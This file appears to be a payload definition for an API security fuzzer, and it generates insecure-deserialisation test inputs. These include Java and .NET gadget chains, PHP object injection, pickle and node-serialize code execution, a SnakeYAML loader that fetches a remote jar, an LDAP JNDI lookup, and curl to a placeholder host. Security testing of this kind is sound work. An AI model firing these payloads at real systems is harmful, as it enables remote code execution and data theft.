import { definePayload } from '../world/payloads.ts'

export default definePayload({
  id: 'deserialisation',
  title: 'serialised objects of a runtime in the place of values',
  owasp: ['API8:2023'],
  inputs: ['text', 'json'],
  rules: {
    start: [
      'rO0AB‹java›',
      'O:‹n›:"‹class›":1:{s:3:"cmd";s:2:"id";}',
      'a:1:{i:0;O:4:"‹class›":1:{s:3:"cmd";s:2:"id";}}',
      'gASV‹pickle›',
      'AAEAAAD/////AQAAAAAAAAAMAgAAAE‹word›=',
      '{"$type":"‹net›","MethodName":"Start"}',
      '{"@type":"‹bean›","dataSourceName":"ldap://‹ip›/‹hex›","autoCommit":true}',
      '_$$ND_FUNC$$_function(){require("child_process").exec("‹cmd›")}()',
      '{"rce":"_$$ND_FUNC$$_function(){return process.env}()"}',
      "cos\\nsystem\\n(S'‹cmd›'\\ntR.",
      '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://‹ip›/‹name›.jar"]]]]',
      '--- !ruby/object:Gem::Installer\\n  i: x',
    ],
    java: [
      'XNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC‹word›=',
      'XNyADJqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwAC‹word›=',
      'XNyABdqYXZhLnV0aWwuTGlua2VkSGFzaFNldA‹word›==',
    ],
    pickle: [
      'KgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==',
      'PwAAAAAAAACMCF9fbWFpbl9flIwH‹word›LgAA==',
    ],
    class: [
      'stdClass',
      'Monolog\\Handler\\SyslogUdpHandler',
      'GuzzleHttp\\Psr7\\FnStream',
      'Evil',
      'Illuminate\\Broadcasting\\PendingBroadcast',
    ],
    net: [
      'System.Windows.Data.ObjectDataProvider, PresentationFramework',
      'System.Diagnostics.Process, System',
      'System.Configuration.Install.AssemblyInstaller, System.Configuration.Install',
    ],
    bean: [
      'com.sun.rowset.JdbcRowSetImpl',
      'org.apache.commons.dbcp2.BasicDataSource',
      'com.mchange.v2.c3p0.JndiRefForwardingDataSource',
    ],
    cmd: ['id', 'whoami', 'curl http://‹ip›/‹hex›'],
  },
})
